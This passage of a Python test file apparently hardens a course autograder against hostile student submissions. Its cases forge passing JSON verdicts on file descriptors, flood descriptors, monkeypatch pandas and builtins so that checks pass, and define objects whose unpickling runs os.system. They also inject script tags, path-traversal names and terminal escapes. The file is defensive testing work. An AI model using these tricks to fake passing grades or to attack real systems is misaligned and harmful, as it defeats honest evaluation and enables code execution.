    """)  # fmt: skip
attack("forges_door", """
    import json
    rows = [
        {"exercise": "03.4", "status": "passed", "words": "", "points": 1},
        {"id": "03.4", "status": "passed", "plain": {"form": "number", "value": True}},
        {"check": "03.4", "answer": {"form": "truth", "value": True}, "passed": True},
        ["03.4", "passed", {}], {"03.4": "passed"}, None, 7, {"exercise": ["03.4"]},
        {"done": True}, {"end": True}, {"points": 99},
        *({"cell": n, "check": "03.4", "plain": {"form": "number", "value": {"a": []}}}
          for n in range(20)),
        *({"cell": n, "check": "03.4", "status": "passed", "message": "Well done"}
          for n in range(20)),
        {"cell": 2, "error": "x", "late": [1]}, {"cell": 5, "begins": True},
    ]
    lines = [json.dumps(row).encode() for row in rows]
    lines += [b"\\xff\\xfe", b"{", b"[" * 5000, b"NaN", b'{"a":' * 3000, b"9" * 5000, b"\\0" * 99]
    for n in range(1024):
        for line in lines if wall else []:
            try:
                os.write(n, b"\\n" + line + b"\\n")
            except OSError:
                break
    """, ".?", slow=True, earns=HONEST | {"03.4": LESS})  # fmt: skip
attack("door_names_cells", """
    import json
    for cell in [-7, 1e300, "9" * 3000, True, None, [0]]:
        line = {"cell": cell, "ends": True, "late": True, "begins": True, "error": "x"}
        os.write(3 if wall else 1, json.dumps(line).encode() + b"\\n")
    """, "^(?!.*Cell (-|1000|999))", earns=HONEST | {"03.1": "passed"})  # fmt: skip
attack("floods_door", """
    import time
    end = time.monotonic() + 60
    for n in range(3, 1024):
        try:
            os.set_blocking(n, False)
            while wall and time.monotonic() < end:
                os.write(n, b"x" * 10**6)
        except OSError:
            pass
    """, ".?", slow=True)  # fmt: skip
attack("patches_pandas", """
    import pandas as pd
    pd.Series.__eq__ = pd.DataFrame.__eq__ = lambda *a: True
    pd.read_csv = lambda *a, **k: pd.DataFrame({"value": [0.0]})
    pd.isna = lambda *a: False
    float_was = float
    import builtins
    builtins.isinstance = lambda *a: True
    """, ".?", earns=HONEST | {name: {"passed", "not yet", "not attempted", "cannot tell"}
    for name in ["03.1", "03.2", "03.3"]})  # fmt: skip
_EVIL = """
    class Evil{base}:
        __eq__ = __ge__ = __le__ = __contains__ = lambda *a: True
        __hash__ = lambda self: 0
        __float__ = __index__ = __len__ = lambda self: 1 / 0
        __repr__ = __str__ = lambda self: "</td><script>alert(1)</script> passed" * 9
        __class__ = property(lambda self: {like})
        __reduce__ = lambda self: (os.system, ("touch " + host["folder"] + "/unpickled",))
        __reduce_ex__ = lambda self, protocol: self.__reduce__()
        __iter__ = lambda self: iter([1 / 0])
        __getattr__ = lambda self, name: 0.534
        status, value, form = "passed", 0.534, "number"
    course.check("03.4", Evil())
    course.check("03.4", [Evil()])
    course.check("03.4", Evil)
    """
for base, like in {"": "float", "(float)": "float", "(str)": "str", "(dict)": "dict",
                   "(list)": "course.Verdict"}.items():  # fmt: skip
    attack(f"evil_{base.strip('()') or 'object'}", _EVIL.format(base=base, like=like), ".?",
           earns=HONEST | {"03.4": LESS})  # fmt: skip
attack("answers_in_html", """
    course.check("03.4", "</td><script>alert(1)</script>")
    course.check("03.4", {"<img src=x onerror=alert(1)>": float("nan"), "=cmd": float("inf")})
    """, earns=HONEST | {"03.4": {"not yet"}})  # fmt: skip
attack("unknown_exercises", """
    for name in ["03.4\\n03.5", "../03.4", "99.9", "03.99", "<b>", "01.1", None, 3.4, "3.4" * 9999]:
        try:
            course.check(name, 1)
        except Exception:
            pass
    """, ".?")  # fmt: skip
attack("writes_unicode", """
    course.check("03.4", "\\ud800 \\0 \\u202e " + chr(0x10FFFF))
    course.check("03.4", {"\\ud800": 1})
    """, ".?", earns=HONEST | {"03.4": LESS})  # fmt: skip
_ESCAPES = r"\x1b]0;mine\x07\x1b[2J\x00\x9b31m\u202e"
good("escapes", lambda: short(
    f"course.check('03.4', '{_ESCAPES}')", t2=f"raise ValueError('{_ESCAPES}')\ncourse.check('03.2', 1)",
), earns=HONEST | {"03.2": LESS, "03.4": LESS}, says=r"ValueError: \?]0;mine")  # fmt: skip
_FORGED_RUNS = """
    import course
    from course.exercises.exercise import Exercise
    one = {"input": [1, 1, 1], "returned": {"form": "number", "value": 0.0}}
    for runs in [[one], [], [one] * 5]:
        Exercise.read = lambda self, answer, seed=None: {
            "form": "function", "what": "", "value": {"runs": runs, "bare": False}}
        course.check("06.3", lambda *a: 0)
    """
odd("forged_runs", ".?", lambda: small("06", a=_FORGED_RUNS), lesson="06",
    earns={"06.3": LESS})  # fmt: skip
_FORGED_VERDICT = """
    import course
    signed = course.Verdict("c33", "mixed", confidence="medium", because=[], says="Yes.",
                            would_change="No.")
    signed.status, signed.reasons, signed.message = "written", [], "<script>alert(1)</script>"
    course.Verdict.plain = lambda self: {"form": "verdict", "what": "", "value": {
        "claim": "c33", "status": "written", "message": "<script>alert(1)</script>"}}
    course.check("03.9", signed)
    """
odd("forged_verdict", ".?", lambda: small("03", a=_FORGED_VERDICT),
    earns={"03.9": LESS})  # fmt: skip
